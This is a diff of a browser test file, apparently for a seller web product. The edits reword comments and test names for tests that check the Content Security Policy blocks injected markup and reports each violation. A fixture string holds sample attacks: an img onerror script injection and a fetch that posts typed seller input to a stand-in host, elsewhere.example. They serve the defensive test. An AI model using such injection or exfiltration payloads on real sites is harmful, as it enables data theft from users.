@@ -11,7 +11,7 @@ import { becomeSeller } from './seller.ts'
 import { watchConsole } from './watch-console.ts'
 import { test } from './with-product.ts'
 
-/** What somebody who got words into a page would try, each followed by a trace it would leave. */
+/** Attacks of somebody who got markup into a page, each with the trace it would leave. */
 const broken = `
   const page = document.documentElement
   page.insertAdjacentHTML('beforeend', '<img src="missing" onerror="page.dataset.handler = 1">')
@@ -29,7 +29,7 @@ const broken = `
   fetch('https://elsewhere.example/', { method: 'POST', body: 'what the seller typed' }).catch(() => undefined)
 `
 
-test('the browser refuses what a page must not do, and the log learns of each', async ({ page }) => {
+test('the browser refuses forbidden actions of a page, and the log reports each one', async ({ page }) => {
   const site = await openBrokenSite()
   await page.goto(site.url)
   await expect
@@ -52,7 +52,7 @@ test('the browser refuses what a page must not do, and the log learns of each', 
 })
 
 for (const device of ['a desk', 'an iPhone'] as const) {
-  test(`on ${device} every style that a page adds is one the policy knows`, {
+  test(`on ${device} the policy knows every style that a page adds`, {
     tag: device === 'an iPhone' ? '@long' : [],
   }, async ({ page, context, product }) => {
     const complaints = watchConsole(page)
@@ -63,13 +63,13 @@ for (const device of ['a desk', 'an iPhone'] as const) {
     await page.getByRole('button', { name: /^Details/ }).click()
     await page.getByRole('button', { name: 'Delete Product' }).click()
     await expect(page.getByRole('alertdialog')).toBeVisible()
-    // React Aria's: for what can be pressed, and on an iPhone for the page behind a dialog.
+    // React Aria's styles: for pressable elements, and on an iPhone for the page behind a dialog.
     expect(await stylesOf(page)).toEqual(device === 'a desk' ? [true] : [true, true])
     expect(complaints()).toEqual([])
   })
 }
 
-/** Of each style element whether it is in force. */
+/** For each style element, whether it is applied. */
 function stylesOf(page: Page): Promise<boolean[]> {
   return page.evaluate(() => [...document.querySelectorAll('style')].map(({ sheet }) => sheet !== null))
 }
@@ -79,7 +79,7 @@ function pretendIPhone() {
   Object.defineProperty(navigator, 'platform', { value: 'iPhone' })
 }
 
-/** A page that breaks the product's policy, behind the product's guard. */
+/** A page that breaks the product's policy, behind the product's middleware. */
 async function openBrokenSite() {
   const lines: string[] = []
   const log = createLog('info', { write: (line) => void lines.push(line) })
